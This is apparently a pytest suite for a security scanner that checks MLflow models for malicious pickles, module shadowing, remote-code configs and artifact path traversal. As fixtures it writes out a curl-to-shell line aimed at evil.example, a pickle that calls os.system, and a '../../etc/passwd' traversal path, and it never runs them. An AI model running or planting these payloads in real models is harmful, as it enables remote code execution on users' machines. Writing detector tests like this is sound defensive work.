"""The whole-model pass: real MLflow models (sklearn pipelines with the user's own transformer
shipped via ``code_paths``, models from code, pyfunc artifacts), scanned as a directory and as a
kit packed to a local OCI layout (also replayed from the scan cache).

The user's module is imported only to *save* the model, as its author would; every file written
into a saved model afterwards (a malicious module, ``os.py``) is never imported or run.
"""

from __future__ import annotations

import shutil
import sys
import warnings
from pathlib import Path

import pytest

from mlflow_plugin import packaging as ops
from mlflow_plugin._internal.mlmodel import read_mlmodel
from mlflow_plugin.scanner.api import scan, scan_directory, scan_kit
from mlflow_plugin.scanner.report import ScanReport, Severity

pytest.importorskip("mlflow")
pytest.importorskip("sklearn")

PKG = "kw_userpkg"
MODELS_PY = (
    "from sklearn.base import BaseEstimator, TransformerMixin\n\n\n"
    "class ScaleBy2(BaseEstimator, TransformerMixin):\n"
    "    def fit(self, X, y=None):\n        return self\n\n"
    "    def transform(self, X):\n        return X * 2\n"
)
EVIL_MODELS_PY = "import os\n\nos.system('curl -s http://evil.example/x | sh')\n\n" + MODELS_PY
# GLOBAL os.system, a harmless argument, TUPLE1, REDUCE, STOP (protocol 2): raw opcodes, never unpickled
EVIL_PICKLE = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00trueq\x00\x85q\x01Rq\x02."


def rows(r: ScanReport, prefix: str = "") -> list[tuple[str, str, str, str]]:
    """(severity, rule, path without ``prefix``, evidence), sorted."""
    return sorted(
        (f.severity.name, f.rule, f.path.removeprefix(prefix), f.evidence)
        for f in r.findings
        if f.rule != "env.unpinned"
    )


def rewrite(model_dir: Path, edit) -> None:
    from ruamel.yaml import YAML

    p = model_dir / "MLmodel"
    doc = read_mlmodel(p.read_bytes())
    edit(doc)
    with p.open("w") as f:
        YAML(typ="safe", pure=True).dump(doc, f)


def copy_model(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst)
    return dst


@pytest.fixture(scope="module")
def user_pkg(tmp_path_factory) -> Path:
    """The model author's own package (on sys.path only while the models are saved)."""
    base = tmp_path_factory.mktemp("src")
    (base / PKG).mkdir()
    (base / PKG / "__init__.py").write_text("")
    (base / PKG / "models.py").write_text(MODELS_PY)
    return base


def _save_pipeline(user_pkg: Path, dest: Path, fmt: str, ship_code: bool) -> Path:
    import mlflow.sklearn
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    sys.path.insert(0, str(user_pkg))
    try:
        from kw_userpkg.models import ScaleBy2  # type: ignore[import-not-found]

        pipe = make_pipeline(ScaleBy2(), LogisticRegression())
        pipe.fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            mlflow.sklearn.save_model(
                pipe,
                str(dest),
                serialization_format=fmt,
                pip_requirements=["scikit-learn"],
                code_paths=[str(user_pkg / PKG)] if ship_code else None,
            )
    finally:
        sys.path.remove(str(user_pkg))
        for name in [m for m in sys.modules if m == PKG or m.startswith(PKG + ".")]:
            del sys.modules[name]
    return dest


@pytest.fixture(scope="module", params=["cloudpickle", "pickle"])
def shipped(request, user_pkg, tmp_path_factory) -> Path:
    """sklearn pipeline with a ScaleBy2 step; kw_userpkg shipped via code_paths."""
    return _save_pipeline(user_pkg, tmp_path_factory.mktemp("shipped") / "model", request.param, True)


@pytest.fixture(scope="module")
def unshipped(user_pkg, tmp_path_factory) -> Path:
    return _save_pipeline(user_pkg, tmp_path_factory.mktemp("unshipped") / "model", "cloudpickle", False)


@pytest.fixture(scope="module")
def code_model(tmp_path_factory) -> Path:
    import mlflow.pyfunc

    base = tmp_path_factory.mktemp("fromcode")
    src = base / "model.py"
    src.write_text(
        "import mlflow\nfrom mlflow.pyfunc import PythonModel\n\n\n"
        "class M(PythonModel):\n    def predict(self, context, model_input):\n"
        "        return model_input\n\n\nmlflow.models.set_model(M())\n"
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        mlflow.pyfunc.save_model(str(base / "model"), python_model=str(src), pip_requirements=[])
    return base / "model"


@pytest.fixture(scope="module")
def artifacts_model(tmp_path_factory) -> Path:
    """Models from code with a real pyfunc artifact (MLflow copies it to artifacts/)."""
    import mlflow.pyfunc

    base = tmp_path_factory.mktemp("arts")
    (base / "vocab.txt").write_text("a\nb\n")
    src = base / "model.py"
    src.write_text(
        "import mlflow\nfrom mlflow.pyfunc import PythonModel\n\n\n"
        "class M(PythonModel):\n    def load_context(self, context):\n"
        "        self.vocab = open(context.artifacts['vocab']).read().split()\n\n"
        "    def predict(self, context, model_input):\n        return model_input\n\n\n"
        "mlflow.models.set_model(M())\n"
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        mlflow.pyfunc.save_model(
            str(base / "model"),
            python_model=str(src),
            artifacts={"vocab": str(base / "vocab.txt")},
            pip_requirements=[],
        )
    return base / "model"


# --- (1) pickle globals that are the kit's own code


def test_shipped_custom_class_is_kit_code_not_unknown(shipped):
    assert (shipped / "code" / PKG / "models.py").is_file()
    r = scan(str(shipped))
    assert not r.failed(Severity.MEDIUM), rows(r)
    assert rows(r) == [("INFO", "pickle.kit-code", "model.pkl", f"{PKG}.models.ScaleBy2")]
    [f] = [f for f in r.findings if f.rule == "pickle.kit-code"]
    assert f.message == (
        f"ScaleBy2 from code/{PKG}/models.py "
        "(shipped with the model; its code is analysed by the code.* rules)"
    )


def test_same_model_without_its_code_keeps_the_unknown_global(unshipped):
    assert not (unshipped / "code").exists()
    r = scan(str(unshipped))
    assert rows(r) == [("HIGH", "pickle.unknown-global", "model.pkl", f"{PKG}.models.ScaleBy2")]


def test_code_that_does_not_define_the_class_is_not_kit_code(shipped, tmp_path):
    d = copy_model(shipped, tmp_path / "model")
    (d / "code" / PKG / "models.py").write_text("class SomethingElse:\n    pass\n")
    assert ("HIGH", "pickle.unknown-global", "model.pkl", f"{PKG}.models.ScaleBy2") in rows(scan(str(d)))


def test_code_dir_not_on_sys_path_is_not_kit_code(shipped, tmp_path):
    """MLflow puts only the flavors' `code` directory on sys.path: without it, code/ is inert."""
    d = copy_model(shipped, tmp_path / "model")

    def edit(doc):
        for fl in doc["flavors"].values():
            fl["code"] = None

    rewrite(d, edit)
    found = rows(scan(str(d)))
    assert ("HIGH", "pickle.unknown-global", "model.pkl", f"{PKG}.models.ScaleBy2") in found
    assert not [x for x in found if x[1] == "pickle.kit-code"]


# --- (2) the kit's own code is still judged by the code.* rules


def test_malicious_shipped_module_is_still_critical(shipped, tmp_path):
    d = copy_model(shipped, tmp_path / "model")
    (d / "code" / PKG / "models.py").write_text(EVIL_MODELS_PY)
    r = scan(str(d))
    found = rows(r)
    shell = [x for x in found if x[1] == "code.shell"]
    assert [(x[0], x[2]) for x in shell] == [("CRITICAL", f"code/{PKG}/models.py")], found
    assert shell[0][3].startswith("os.system(")
    assert ("INFO", "pickle.kit-code", "model.pkl", f"{PKG}.models.ScaleBy2") in found
    assert r.max_severity == Severity.CRITICAL


# --- (3) shadowing


def test_os_py_in_code_shadows_and_dangerous_globals_stay(shipped, tmp_path):
    d = copy_model(shipped, tmp_path / "model")
    (d / "code" / "os.py").write_text("def system(cmd):\n    return 0\n")
    (d / "code" / "numpy").mkdir()
    (d / "code" / "numpy" / "__init__.py").write_text("X = 1\n")
    (d / "extra.pkl").write_bytes(EVIL_PICKLE)
    found = rows(scan(str(d)))
    assert ("HIGH", "code.shadows-module", "code/os.py", "os") in found, found
    assert ("HIGH", "code.shadows-module", "code/numpy/__init__.py", "numpy") in found
    # os.system is never reclassified, even though the kit has an os.py defining `system`
    assert ("CRITICAL", "pickle.unsafe-global", "extra.pkl", "os.system") in found
    assert not [x for x in found if x[1] == "pickle.kit-code" and x[2] == "extra.pkl"]


def test_shadowing_in_a_code_layer_outside_any_model(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "subprocess.py").write_text("X = 1\n")
    (tmp_path / "src" / "calendar.py").write_text("X = 1\n")
    (tmp_path / "src" / "mymodels.py").write_text("X = 1\n")
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text("")
    (tmp_path / "pkg" / "json.py").write_text("X = 1\n")  # pkg.json: a package's own submodule
    found = [x for x in rows(scan(str(tmp_path))) if x[1] == "code.shadows-module"]
    assert found == [
        ("HIGH", "code.shadows-module", "src/subprocess.py", "subprocess"),
        ("MEDIUM", "code.shadows-module", "src/calendar.py", "calendar"),
    ]


def test_a_package_submodule_named_like_stdlib_does_not_shadow(shipped, tmp_path):
    d = copy_model(shipped, tmp_path / "model")
    (d / "code" / PKG / "json.py").write_text("X = 1\n")
    assert not [x for x in rows(scan(str(d))) if x[1] == "code.shadows-module"]


# --- (4) MLmodel references to code that is not there


def test_loader_module_not_shipped_is_missing_code(shipped, tmp_path):
    d = copy_model(shipped, tmp_path / "model")
    rewrite(d, lambda doc: doc["flavors"]["python_function"].__setitem__("loader_module", "custom_loader"))
    r = scan(str(d))
    [f] = [f for f in r.findings if f.rule == "mlmodel.missing-code"]
    assert (f.severity, f.path, f.evidence) == (Severity.HIGH, "MLmodel", "custom_loader")
    assert "`flavors.python_function.loader_module`" in f.message
    # shipped: no missing-code, and the loader finding names the file the code.* rules read
    (d / "code" / "custom_loader.py").write_text("def _load_pyfunc(path):\n    return None\n")
    r = scan(str(d))
    assert not [f for f in r.findings if f.rule == "mlmodel.missing-code"]
    [f] = [f for f in r.findings if f.rule == "mlmodel.loader-module"]
    assert f.severity == Severity.MEDIUM and "(code/custom_loader.py)" in f.message


def test_code_dir_removed_is_missing_code(shipped, tmp_path):
    d = copy_model(shipped, tmp_path / "model")
    shutil.rmtree(d / "code")
    found = rows(scan(str(d)))
    assert ("MEDIUM", "mlmodel.missing-code", "MLmodel", "code") in found, found
    assert ("HIGH", "pickle.unknown-global", "model.pkl", f"{PKG}.models.ScaleBy2") in found


def test_model_from_code_file_missing(code_model, tmp_path):
    assert not [x for x in rows(scan(str(code_model))) if x[0] != "INFO"]
    d = copy_model(code_model, tmp_path / "model")
    (d / "model.py").unlink()
    r = scan(str(d))
    [f] = [f for f in r.findings if f.rule == "mlmodel.missing-code"]
    assert (f.severity, f.evidence) == (Severity.HIGH, "model.py")
    assert "`flavors.python_function.model_code_path`" in f.message


# --- (5) transformers configs


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        (
            "config.json",
            '{"architectures": ["EvilModel"], "model_type": "bert", '
            '"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}',
            [("HIGH", "auto_map")],
        ),
        (
            "tokenizer_config.json",
            '{"tokenizer_class": "X", "trust_remote_code": true}',
            [("HIGH", "trust_remote_code")],
        ),
        (
            "config.json",
            '{"architectures": ["M"], "model_type": "evil_arch", "transformers_version": "4.44.0"}',
            [("MEDIUM", "model_type: evil_arch")],
        ),
        ("config.json", '{"architectures": ["BertModel"], "model_type": "bert"}', []),
        ("settings.json", '{"auto_map": {"AutoModel": "x.Y"}}', []),
    ],
)
def test_transformers_config_remote_code(code_model, tmp_path, name, content, expected):
    d = copy_model(code_model, tmp_path / "model")
    (d / "model").mkdir()
    (d / "model" / name).write_text(content)
    found = [f for f in scan(str(d)).findings if f.rule == "mlmodel.remote-code"]
    assert [(f.severity.name, f.evidence) for f in found] == expected
    for f in found:
        assert f.path == f"model/{name}" and name in f.message


# --- (6) pyfunc artifacts


def test_real_pyfunc_artifacts_are_clean(artifacts_model):
    doc = read_mlmodel((artifacts_model / "MLmodel").read_bytes())
    assert doc["flavors"]["python_function"]["artifacts"]["vocab"]["path"].startswith("artifacts/")
    assert not [x for x in rows(scan(str(artifacts_model))) if x[0] != "INFO"]


def test_pyfunc_artifacts_outside_the_model(artifacts_model, tmp_path):
    d = copy_model(artifacts_model, tmp_path / "model")

    def edit(doc):
        arts = doc["flavors"]["python_function"]["artifacts"]
        arts["vocab"]["path"] = "../../etc/passwd"
        arts["weights"] = {"path": "s3://bucket/weights.bin", "uri": "s3://bucket/weights.bin"}
        arts["runs"] = "runs:/0123/model"

    rewrite(d, edit)
    found = sorted(
        (f.severity.name, f.rule, f.evidence, "`" + f.message.split("`")[1] + "`")
        for f in scan(str(d)).findings
        if f.rule in ("mlmodel.path", "mlmodel.remote-artifact")
    )
    assert found == [
        (
            "HIGH",
            "mlmodel.path",
            "../../etc/passwd",
            "`flavors.python_function.artifacts.vocab.path`",
        ),
        (
            "MEDIUM",
            "mlmodel.remote-artifact",
            "runs:/0123/model",
            "`flavors.python_function.artifacts.runs.path`",
        ),
        (
            "MEDIUM",
            "mlmodel.remote-artifact",
            "s3://bucket/weights.bin",
            "`flavors.python_function.artifacts.weights.path`",
        ),
    ]


# --- (7) the same through scan_kit, twice (the second time from the scan cache)


@pytest.fixture
def combo(shipped, tmp_path) -> Path:
    """One model dir that triggers every whole-model rule (and one that must stay unknown)."""
    d = copy_model(shipped, tmp_path / "ctx" / "model")
    (d / "code" / "os.py").write_text("def system(cmd):\n    return 0\n")
    (d / "code" / "other").mkdir()
    (d / "code" / "other" / "thing.py").write_text("class Thing:\n    pass\n")
    (d / "extra.pkl").write_bytes(EVIL_PICKLE)
    # unknown global whose module the kit does not ship: stays unknown
    (d / "stray.pkl").write_bytes(b"\x80\x02cnotshipped.mod\nThing\nq\x00)\x81q\x01.")
    (d / "hf").mkdir()
    (d / "hf" / "config.json").write_text('{"model_type": "bert", "auto_map": {"AutoModel": "m.M"}}')

    def edit(doc):
        doc["flavors"]["custom"] = {"loader_module": "absent_loader"}
        doc["flavors"]["python_function"]["artifacts"] = {"w": {"path": "s3://bucket/w.bin"}}

    rewrite(d, edit)
    (tmp_path / "ctx" / "Kitfile").write_text("manifestVersion: 1.0.0\nmodel: {path: model}\n")
    return d


def test_scan_kit_matches_the_directory_scan_and_its_cached_replay(combo, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("MLFLOW_MODELKIT_SCAN_CACHE", "1")
    expected = [
        ("CRITICAL", "pickle.unsafe-global", "extra.pkl", "os.system"),
        ("HIGH", "code.shadows-module", "code/os.py", "os"),
        ("HIGH", "mlmodel.loader-module", "MLmodel", "absent_loader"),
        ("HIGH", "mlmodel.missing-code", "MLmodel", "absent_loader"),
        ("HIGH", "mlmodel.remote-code", "hf/config.json", "auto_map"),
        ("HIGH", "pickle.unknown-global", "stray.pkl", "notshipped.mod.Thing"),
        ("INFO", "mlmodel.unknown-flavor", "MLmodel", "custom"),
        ("INFO", "pickle.kit-code", "model.pkl", f"{PKG}.models.ScaleBy2"),
        ("MEDIUM", "mlmodel.remote-artifact", "MLmodel", "s3://bucket/w.bin"),
    ]
    assert rows(scan_directory(str(combo))) == sorted(expected)

    ref = f"oci:{tmp_path}/kits/m:v1"
    ops.pack(str(combo.parent), ref)
    first = scan_kit(ref)
    assert rows(first, "model/") == sorted(expected)
    kit_code = [f for f in first.findings if f.rule == "pickle.kit-code"]
    assert [f.message.split(" (")[0] for f in kit_code] == [f"ScaleBy2 from model/code/{PKG}/models.py"]

    # replayed from the cache without reading the layers: delete the blobs to prove it
    manifest = ops.inspect(ref).manifest
    for layer in manifest["layers"]:
        (tmp_path / "kits/m/blobs/sha256" / layer["digest"].split(":")[1]).unlink()
    again = scan_kit(ref)
    assert [f.to_json() for f in again.findings] == [f.to_json() for f in first.findings]
    assert rows(again, "model/") == sorted(expected)


def test_code_in_a_kit_code_layer_is_kit_code(unshipped, tmp_path, user_pkg, monkeypatch):
    """The module ships in the kit's code layer (not in the model's code/): still the kit's code."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    ctx = tmp_path / "ctx"
    copy_model(unshipped, ctx / "model")
    shutil.copytree(user_pkg / PKG, ctx / "src" / PKG)
    (ctx / "Kitfile").write_text("manifestVersion: 1.0.0\nmodel: {path: model}\ncode:\n  - path: src\n")
    ref = f"oci:{tmp_path}/kits/c:v1"
    ops.pack(str(ctx), ref)
    for _ in range(2):  # the second time from the cache
        found = rows(scan_kit(ref))
        assert found == [("INFO", "pickle.kit-code", "model/model.pkl", f"{PKG}.models.ScaleBy2")], found
